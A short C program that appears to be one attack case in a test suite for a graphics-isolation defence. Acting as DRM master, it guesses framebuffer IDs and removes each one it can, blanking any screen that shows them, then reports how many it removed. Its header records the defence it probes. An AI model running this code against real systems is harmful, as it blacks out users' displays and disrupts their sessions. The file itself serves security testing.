// SPDX-License-Identifier: Apache-2.0
/*
 * Removes every framebuffer it can name, as DRM master: what shows one goes dark.
 *
 * attack: rmfb
 * class: screen
 * when: before
 * judge: picture-hidden
 * ree: attack
 * defence: module
 * why: ids can be guessed; the session's framebuffer has none, and belongs to no file
 */
#include <xf86drmMode.h>

#include "master.h"
#include "report.h"

#define IDS 1024

int main(void)
{
	unsigned int removed = 0;
	struct screen s;
	uint32_t id;

	attack_init();
	master_get(&s);
	do {
		for (id = 1; id < IDS; id++)
			removed += !drmModeRmFB(s.card, id);
	} while (!attack_wait(200));
	attack_succeeded("removed %u framebuffers", removed);
}
